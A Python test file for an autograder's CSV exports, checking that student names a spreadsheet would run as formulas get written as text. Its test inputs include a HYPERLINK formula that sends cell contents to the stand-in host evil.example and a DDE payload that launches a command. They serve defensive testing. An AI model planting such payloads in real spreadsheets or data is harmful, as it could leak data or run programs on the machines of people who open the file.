"""CSV injection: a student's folder name that a spreadsheet would run as a formula is written as
text in every CSV an instructor opens (gradebook.csv, items.csv, the nbgrader export), and kept as
given in the JSON files."""

from __future__ import annotations

import csv
import json

import pytest

from autograder.classroom.batch import write_gradebook
from autograder.classroom.course import write_exports
from autograder.core.tables import spreadsheet_text
from autograder.results.classstats import class_stats, items_csv
from test_classreport import _class

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text):
    assert spreadsheet_text(text) == "'" + text


def test_other_cells_are_unchanged():
    for value in ("山田太郎", "alice", "a=b", "", None, 0, -0.5, 12.0, "reports/x.json"):
        assert spreadsheet_text(value) == value


def _csv(path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_gradebook_csv_neutralises_a_hostile_student_id_and_the_json_keeps_it(tmp_path):
    evil = '=cmd|" /C calc"!A0'
    rows = [{"student": evil, "status": "graded", "score": 20.0, "max_score": 180.0, "partial": True,
             "exercises": {"ex1_vectors": 20.0}, "report": f"reports/{evil}.json", "submission": f"@{evil}",
             "errors": ["-bad"], "notes": []},
            {"student": "alice", "status": "error", "score": None, "max_score": 180.0, "exercises": {},
             "report": "reports/alice.json", "errors": ["boom"]}]
    write_gradebook(rows, tmp_path)
    table = {r["student"]: r for r in _csv(tmp_path / "gradebook.csv")}
    assert set(table) == {"'" + evil, "alice"}
    row = table["'" + evil]
    assert row["score"] == "20.0" and row["ex1_vectors"] == "20.0" and row["submission"] == "'@" + evil
    assert row["errors"] == "'-bad" and row["report"] == f"reports/{evil}.json"
    assert table["alice"]["score"] == "" and table["alice"]["errors"] == "boom"
    book = json.loads((tmp_path / "gradebook.json").read_text(encoding="utf-8"))
    assert {r["student"] for r in book["students"]} == {evil, "alice"}


def test_items_csv_and_the_nbgrader_export_neutralise_it_too(tmp_path):
    book, docs = _class()
    book["students"][0]["student"] = "=1+1"
    stats = class_stats(book, docs)
    students = [r["student"] for r in csv.DictReader(items_csv(stats).splitlines())]
    assert "'=1+1" in students and "=1+1" not in students
    rows = [{"student": "+SUM(A1)", "assignment": "ex1_vectors", "task": "cosine_similarity",
             "grade_id": "test_cosine_similarity", "max_score": 5.0, "score": 5.0, "status": "graded"}]
    write_exports(rows, None, tmp_path / "grades.csv")
    assert _csv(tmp_path / "grades.csv")[0]["student"] == "'+SUM(A1)"
    assert _csv(tmp_path / "grades.csv")[0]["score"] == "5.0"
